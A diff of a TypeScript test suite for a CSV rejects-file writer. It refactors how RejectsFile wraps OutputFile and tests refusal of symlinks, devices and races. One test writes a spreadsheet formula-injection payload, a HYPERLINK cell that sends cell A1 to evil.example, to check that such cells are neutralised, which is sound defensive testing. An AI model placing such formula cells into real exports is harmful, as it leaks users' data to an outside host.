@@ -23,7 +23,7 @@ describe(OutputFile.name, () => {
   });
 
   const writeRejects = async () => {
-    const file = await RejectsFile.create(path, () => ['name', 'city']);
+    const file = new RejectsFile(await OutputFile.create(path), () => ['name', 'city']);
     await file.add(REJECTED);
     return file;
   };
@@ -65,7 +65,10 @@ describe(OutputFile.name, () => {
   it('uses the next number unless a file with the same content exists', async () => {
     const rejects = inFolder('a.csv.rejects.csv');
     const write = async (reason: string) => {
-      const file = await RejectsFile.createNumbered(rejects, () => ['name', 'city']);
+      const file = new RejectsFile(await OutputFile.createNumbered(rejects), () => [
+        'name',
+        'city',
+      ]);
       await file.add({ ...REJECTED, reason });
       return file;
     };
@@ -89,7 +92,7 @@ describe(OutputFile.name, () => {
   it('does not replace a link or a device', async () => {
     await symlink(inFolder('elsewhere'), path);
     await expect(writeRejects()).rejects.toThrow(`${path} is not a regular file.`);
-    await expect(RejectsFile.create('/dev/null', () => [])).rejects.toThrow('not a regular file');
+    await expect(OutputFile.create('/dev/null')).rejects.toThrow('not a regular file');
   });
 
   it('does not replace a file that was created in the meantime', async () => {
@@ -100,7 +103,7 @@ describe(OutputFile.name, () => {
   });
 
   it('contains no cell that a spreadsheet evaluates as a formula', async () => {
-    const file = await RejectsFile.create(path, () => ['=name', 'phone', 'note']);
+    const file = new RejectsFile(await OutputFile.create(path), () => ['=name', 'phone', 'note']);
     const cells = ['=HYPERLINK("https://evil.example/?"&A1)', '+12183654000', '@SUM(A1)'];
     await file.add({ ...REJECTED, cells });
     await file.close();
@@ -111,7 +114,7 @@ describe(OutputFile.name, () => {
   });
 
   it('leaves no file when nothing was rejected', async () => {
-    const file = await RejectsFile.create(path, () => ['name']);
+    const file = new RejectsFile(await OutputFile.create(path), () => ['name']);
     expect([await file.close(), await readdir(inFolder())]).toEqual([undefined, []]);
   });
 });
